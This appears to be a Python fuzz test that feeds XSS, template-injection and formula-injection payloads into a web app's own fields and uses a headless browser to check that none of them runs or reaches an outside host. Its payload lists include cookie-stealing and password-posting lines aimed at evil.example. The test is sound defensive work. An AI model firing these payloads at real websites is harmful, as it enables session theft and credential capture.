"""Text that would like to be script, in every field that takes text, on every page that shows it.

A real browser looks at the pages. Nothing may run, ask for anything elsewhere, open a dialog, break
the Content-Security-Policy or complain; and none of it may become an element of the page.
"""

import random
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote, urlsplit

from faults.fuzz import options, site

# Short enough for a name: 40 characters.
NAMES = [
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    '"><svg/onload=ran(1)>',
    "'-ran(1)-'",
    "</title><script>ran(1)</script>",
    "<a href=javascript:ran(1)>x</a>",
    "{{ran(1)}} ${ran(1)} <%=ran(1)%>",
    "</script><script>ran(1)</script>",
    "<iframe src=//evil.example>",
    "javascript:ran(1)//",
    "&lt;img src=x onerror=ran(1)&gt;",
    "<style>*{display:none}</style>",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "<b onmouseover=ran(1)>",
    "{% debug %}{{ settings.SECRET_KEY }}",
]
TEXTS = [
    *NAMES,
    "<img src='https://evil.example/?' + document.cookie>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=ran(1)></style></math>",
    '<form action="https://evil.example/"><input name=password autofocus onfocus=ran(1)></form>',
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=ran(1)>x</details><video><source onerror=ran(1)></video>",
    "<object data=data:text/html,<script>ran(1)</script>></object><embed src=//evil.example>",
    "javascript:ran(1) data:text/html,<script>ran(1)</script> vbscript:ran(1) //evil.example",
    "JaVaScRiPt:ran(1) java\tscript:ran(1) https://evil.example/\"onmouseover=\"ran(1)",
    "https://evil.example/<script>ran(1)</script> https://user:password@evil.example/",
    "https://a.example/\u202emoc.elgoog//:sptth \u202ehttps://b.example/\u202c",
    "[x](javascript:ran(1)) ![x](https://evil.example/x.png) <https://evil.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\">",
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e \x3cscript\x3eran(1)\x3c/script\x3e",
    "<!--><script>ran(1)</script>--> <![CDATA[<script>ran(1)</script>]]>",
    "<sCrIpT/x>ran(1)</ScRiPt> <img/src=`x`onerror=ran(1)> <input onfocus=ran(1) autofocus>",
    "=HYPERLINK(\"https://evil.example\",\"x\") @SUM(1) +1 -1",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<template><script>ran(1)</script></template><slot name=x></slot>",
]  # fmt: skip
LOOKS = 'document.documentElement.outerHTML.includes("ran(1)")'
# What stands on a page that we did not write ourselves.
FOREIGN = """() => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    for (const {name} of element.attributes)
      if (name.startsWith("on")) found.push(`${element.localName}[${name}]`);
    const leads = element.getAttribute("href") || element.getAttribute("src") || "";
    if (/^\\s*(javascript|data|vbscript):/i.test(leads) && element.localName !== "img")
      found.push(`${element.localName} to ${leads.slice(0, 60)}`);
    if (element.target === "_blank" && !/noopener/.test(element.rel))
      found.push(`a link that its page can be turned by: ${leads}`);
  }
  for (const script of document.scripts)
    if (!script.src && script.type !== "application/json") found.push("an inline script");
  for (const name of ["iframe", "object", "embed", "base", "math", "animate", "template"])
    for (const element of document.querySelectorAll(name)) found.push(element.localName);
  for (const image of document.images)
    if (new URL(image.src).origin !== location.origin && !image.src.startsWith("data:"))
      found.push(`an image of ${image.src}`);
  for (const link of document.querySelectorAll("a[href]"))
    if (/[\\u202a-\\u202e\\u2066-\\u2069]/.test(link.textContent + link.getAttribute("href")))
      found.push("a link that reads otherwise than it leads");
  if (window.__ran) found.push("it ran");
  return found;
}"""
HARMLESS = ("Failed to load resource: the server responded with a status of 40",)  # error pages
PAGE_MS = 15_000


class Watched:
    """A person's browser; `findings` counts what must not be, `shown` tells it."""

    def __init__(self, browser: Any, url: str, session: str, cookie: str) -> None:
        self.url = url
        self.findings: Counter[str] = Counter()
        self.shown: list[str] = []
        self.visited = self.saw_payload = 0
        self.context = browser.new_context(base_url=url, locale="en-GB")
        self.context.set_default_timeout(PAGE_MS)
        if session:
            self.context.add_cookies([{"name": cookie, "value": session, "url": url}])
        self.context.add_init_script("window.ran = () => { window.__ran = true; };")
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self._note("page_error", str(error)))
        self.page.on("console", self._console)
        self.page.on("request", self._request)

    def _note(self, kind: str, what: str) -> None:
        self.findings[kind] += 1
        self.shown.append(f"{kind} at {urlsplit(self.page.url).path}: {what[:300]}")

    def _dialog(self, dialog: Any) -> None:
        self._note("dialog", dialog.message)
        dialog.dismiss()

    def _console(self, message: Any) -> None:
        if message.type == "error" and not message.text.startswith(HARMLESS):
            is_policy = "Content Security Policy" in message.text
            self._note("csp_violation" if is_policy else "console_error", message.text)

    def _request(self, request: Any) -> None:
        to = urlsplit(request.url)
        if to.scheme in ("http", "https", "ws", "wss") and to.netloc != urlsplit(self.url).netloc:
            self._note("request_elsewhere", request.url)

    def look(self, path: str, ready: Callable[[Any], None] | None = None) -> None:
        """At a page, as soon as it is there; with what its scripts then bring."""
        self.page.goto(path)
        if ready:
            ready(self.page)
        self.judge()

    def judge(self) -> None:
        self.visited += 1
        self.saw_payload += bool(self.page.evaluate(LOOKS))
        for what in self.page.evaluate(FOREIGN):
            self._note("ran" if what == "it ran" else "element", what)

    def close(self) -> None:
        self.context.close()


# --- the site with all of it in it --------------------------------------------------------------


def plant(url: str, token: str, names: Iterable[str], texts: Iterable[str]) -> list[int]:
    """By REST: the caller's name, rooms with such titles, and in the last of them such messages.
    Answers the rooms."""
    rooms = []
    for name in names:
        asked = {"title": name, "description": f"{name}\n{name}", "capacity": 20}
        made = site.ask(url, "POST", "/api/v1/rooms/", asked, token)
        assert made.status == 201, made.body
        rooms.append(made.json["id"])
        renamed = site.ask(url, "PATCH", "/api/v1/me/", {"display_name": name}, token)
        assert renamed.status == 200, renamed.body
    for number, text in enumerate(texts):
        say = {"cid": f"00000000-0000-4000-8000-{number:012}", "body": text}
        said = site.ask(url, "POST", f"/api/v1/rooms/{rooms[-1]}/events/", say, token)
        assert said.status == 201, (text, said.body)
    return rooms


def by_page(watched: Watched, name: str, text: str) -> None:
    """The same by the pages' own forms: a profile, a room and a message."""
    page = watched.page
    watched.look("/accounts/profile/")
    page.locator("[name=display_name]").fill(name)
    _submit(page)
    watched.judge()
    page.goto("/rooms/new/")
    page.locator("[name=title]").fill(name)
    page.locator("[name=description]").fill(text)
    _submit(page)
    in_room(page)
    page.locator("#body").fill(text)
    page.locator("#body").press("Enter")
    page.locator("#log .message-body").last.wait_for()
    watched.judge()
    page.goto("/rooms/new/")  # and the refusal of a form, which shows it again
    page.locator("[name=title]").fill(name + "\u202e")
    _submit(page)
    watched.judge()


def _submit(page: Any) -> None:
    with page.expect_navigation():
        page.locator("main button[type=submit]").first.click()


def in_room(page: Any) -> None:
    page.locator("#here-count:not(:empty)").wait_for()
    for link in page.locator("#log .message-body a").all():
        link.focus()


def pages(rooms: list[int], word: str) -> Iterator[tuple[str, Callable[[Any], None] | None]]:
    """Those that show what a person wrote; `word` where an address may hold it."""
    held = quote(word, safe="")
    room = rooms[-1]
    yield "/", None
    yield f"/?q={held}", None
    yield f"/rooms/{room}/", in_room
    yield from ((path, None) for path in (
        f"/rooms/{room}/edit/", f"/rooms/{room}/members/", "/accounts/profile/",
        "/lobby/mine/", f"/lobby/rooms/?q={held}&page={held}",
        f"/nothing/{held}", f"/rooms/{held}/", f"/accounts/sign-in/?next={held}",
        "/api/docs/", f"/api/v1/rooms/?q={held}&state={held}", f"/api/v1/{held}",
        "/readyz", "/graphql/",
    ))  # fmt: skip


def admin_pages(rooms: list[int], person: int, word: str) -> Iterator[str]:
    held = quote(word, safe="")
    for path in (
        "", f"rooms/room/?q={held}", f"rooms/room/{rooms[-1]}/change/", "rooms/room/",
        f"rooms/room/{rooms[-1]}/history/", f"rooms/room/{rooms[-1]}/close/",
        f"rooms/room/{rooms[-1]}/edit/", f"rooms/room/{rooms[-1]}/transfer/{person}/",
        "accounts/user/", f"accounts/user/?q={held}", f"accounts/user/{person}/change/",
        f"accounts/user/{person}/edit/", f"accounts/user/{person}/history/",
        f"accounts/user/{held}/change/", f"login/?next={held}",
    ):  # fmt: skip
        yield f"/admin/{path}"


def run(seconds: float = 180, seed: int = 1) -> dict[str, Any]:
    """`{"executions": pages seen, "findings": {…}, "with_payload": …, "shown": […]}`."""
    chance = random.Random(seed)
    names, texts = NAMES[:], TEXTS[:]
    chance.shuffle(names)
    chance.shuffle(texts)
    with site.running() as ours, chromium() as browser:
        mallory, boss = ours.person("Mallory"), ours.person("Boss")
        ours.manage("shell", "--no-imports", text=APPOINT % boss.email)
        device = site.ask(
            ours.url, "POST", "/api/v1/tokens/",
            {"email": mallory.email, "password": site.PASSWORD},
            agent="<script>ran(1)</script><img src=x onerror=ran(1)>",
        )  # fmt: skip
        rooms = plant(ours.url, device.json["access"], names, texts)
        hers = Watched(browser, ours.url, mallory.session, COOKIE)
        theirs = Watched(browser, ours.url, boss.session, COOKIE)
        nobodys = Watched(browser, ours.url, "", COOKIE)
        end = time.monotonic() + seconds
        for name, text in zip(names, texts, strict=False):
            _round(hers, theirs, nobodys, rooms, mallory.id, name, text)
            if time.monotonic() > end:
                break
        return _told([hers, theirs, nobodys], len(ours.complaints()))


def _round(
    hers: Watched, theirs: Watched, nobodys: Watched, rooms: list[int], person: int, name: str,
    text: str,
) -> None:  # fmt: skip
    by_page(hers, name, text)
    for path, ready in pages(rooms, name):
        hers.look(path, ready)
    for path in admin_pages(rooms, person, name):
        theirs.look(path)
    for path in ("/", f"/nothing/{quote(name, safe='')}", f"/?q={quote(name)}"):
        nobodys.look(path)


def _told(browsers: list[Watched], tracebacks: int) -> dict[str, Any]:
    kinds = ("ran", "dialog", "csp_violation", "request_elsewhere", "element", "page_error",
             "console_error")  # fmt: skip
    found = sum((each.findings for each in browsers), Counter())
    return {
        "executions": sum(each.visited for each in browsers),
        "with_payload": sum(each.saw_payload for each in browsers),
        "findings": {kind: found[kind] for kind in kinds} | {"logged_tracebacks": tracebacks},
        "shown": [line for each in browsers for line in each.shown][:40],
    }


COOKIE = "sessionid"
APPOINT = """
from accounts.models import User
User.objects.filter(email=%r).update(is_staff=True, is_superuser=True)
"""


@contextmanager
def chromium() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=site.browser(), args=["--no-sandbox", "--disable-gpu"]
        )
        yield browser
        browser.close()


if __name__ == "__main__":
    options.main(run, __doc__)
